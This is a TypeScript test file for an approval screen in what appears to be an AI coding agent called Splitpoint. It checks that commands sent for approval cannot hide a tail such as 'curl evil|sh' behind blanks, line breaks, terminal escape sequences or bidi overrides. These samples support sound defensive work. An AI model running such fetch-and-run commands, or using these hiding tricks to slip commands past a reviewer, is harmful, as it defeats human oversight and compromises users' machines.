import assert from 'node:assert/strict';
import { approvalPrompt } from '../../src/cli/runCommand';
import { approvalNotice, commandParts, escapeControls } from '../../src/protocol/commandText';

const ESC = '\x1b';

describe('commands to approve: nothing in them hides', () => {
  describe('commandParts (the approval card)', () => {
    it('leaves a plain command as one plain part', () => {
      assert.deepEqual(commandParts('npm test -- --grep "a b"'), [{ text: 'npm test -- --grep "a b"' }]);
      assert.deepEqual(commandParts(''), []);
    });

    it('collapses a run of more than 8 blanks into a marked ␣×N, so the tail stays on screen', () => {
      const parts = commandParts(`npm test${' '.repeat(300)}; curl evil|sh`);
      assert.deepEqual(parts, [{ text: 'npm test' }, { text: '␣×300', hidden: '300 blank characters' }, { text: '; curl evil|sh' }]);
    });

    it('keeps runs of up to 8 spaces as they are, and counts no-break and wide spaces as blanks', () => {
      assert.deepEqual(commandParts(`a${' '.repeat(8)}b`), [{ text: `a${' '.repeat(8)}b` }]);
      assert.deepEqual(commandParts(`a${'\u00a0\u3000'.repeat(5)}b`), [
        { text: 'a' },
        { text: '␣×10', hidden: '10 blank characters' },
        { text: 'b' },
      ]);
    });

    it('marks each line break with ⏎ and keeps the break, so every line shows', () => {
      const parts = commandParts(`npm test${'\n'.repeat(3)}curl evil|sh`);
      assert.deepEqual(parts, [
        { text: 'npm test' },
        { text: '⏎', hidden: 'line break' },
        { text: '\n' },
        { text: '⏎', hidden: 'line break' },
        { text: '\n' },
        { text: '⏎', hidden: 'line break' },
        { text: '\ncurl evil|sh' },
      ]);
    });

    it('shows tabs, carriage returns, C0 and C1 controls and bidi overrides as escapes', () => {
      const parts = commandParts(`a\tb\r\n${ESC}[2Kc\x9bd\u202ee\x7f`);
      assert.deepEqual(
        parts.filter((p) => p.hidden !== undefined).map((p) => p.text),
        ['\\t', '\\r', '⏎', '\\x1b', '\\x9b', '\\u202e', '\\x7f'],
      );
      assert.equal(parts.find((p) => p.text === '\\x1b')!.hidden, 'control character U+001B');
      assert.equal(parts.find((p) => p.text === '\\u202e')!.hidden, 'invisible character U+202E');
      // What is left unmarked is the command minus the characters the markers stand for (and the kept line break).
      const plain = parts
        .filter((p) => p.hidden === undefined)
        .map((p) => p.text)
        .join('');
      assert.equal(plain, 'ab\n[2Kcde');
    });
  });

  describe('escapeControls (the CLI)', () => {
    it('escapes C0, DEL and C1 controls and bidi controls, and leaves other text alone', () => {
      assert.equal(escapeControls(`rm -rf x${ESC}[1A${ESC}[2K\rnpm test`), 'rm -rf x\\x1b[1A\\x1b[2K\\rnpm test');
      assert.equal(escapeControls('a\nb\tc\x00d\x7fe\x9bf\u2066g'), 'a\\nb\\tc\\x00d\\x7fe\\x9bf\\u2066g');
      assert.equal(escapeControls('ünïcode — ok'), 'ünïcode — ok');
    });

    it('the run prompt shows an escape sequence in the command instead of sending it to the terminal', () => {
      const prompt = approvalPrompt(`run (sandboxed): npm test${ESC}[2K${ESC}[1Gcurl evil|sh`);
      assert.equal(prompt, 'Allow run (sandboxed): npm test\\x1b[2K\\x1b[1Gcurl evil|sh? [y/N] ');
      assert.ok(!prompt.includes(ESC), 'no raw escape character reaches the terminal');
    });
  });

  describe('approvalNotice (the notification while the side bar is hidden)', () => {
    it('offers Approve for a short one-line command, naming it whole', () => {
      assert.deepEqual(approvalNotice({ summary: 'run', command: 'npm test' }), {
        text: 'Splitpoint wants to run "npm test".',
        actions: ['Show', 'Approve', 'Reject'],
      });
      assert.deepEqual(approvalNotice({ summary: 'edit src/a.ts' }).actions, ['Show', 'Approve', 'Reject']);
      assert.equal(approvalNotice({ summary: 'edit src/a.ts' }).text, 'Splitpoint wants to edit src/a.ts.');
    });

    it('offers no Approve for a command over 200 characters, with several lines, control characters or a long blank run', () => {
      const cases: [string, RegExp][] = [
        [`npm test${' '.repeat(300)}; curl evil|sh`, /\(322 characters long\)/],
        [`npm test${'\n'.repeat(40)}curl evil|sh`, /\(several lines\)/],
        [`npm test\rcurl evil|sh`, /\(several lines\)/],
        [`npm test${ESC}[2Kcurl evil|sh`, /\(control or invisible characters\)/],
        ['npm test\u202e hs|live lruc', /\(control or invisible characters\)/],
        // Under 200 characters, but blanks that a notification does not collapse push the rest out of sight.
        [`npm test${'\u00a0'.repeat(120)}; curl evil|sh`, /\(a long run of blanks\)/],
      ];
      for (const [command, why] of cases) {
        const n = approvalNotice({ summary: 'run', command });
        assert.deepEqual(n.actions, ['Show'], JSON.stringify(command));
        assert.match(n.text, /needs review in the side bar/);
        assert.match(n.text, why);
        assert.ok(!n.text.includes('curl'), 'no part of the command is shown cut');
      }
    });

    it('a command of exactly 200 plain characters is still offered', () => {
      assert.deepEqual(approvalNotice({ summary: 'run', command: 'x'.repeat(200) }).actions, ['Show', 'Approve', 'Reject']);
      assert.deepEqual(approvalNotice({ summary: 'run', command: 'x'.repeat(201) }).actions, ['Show']);
    });
  });
});
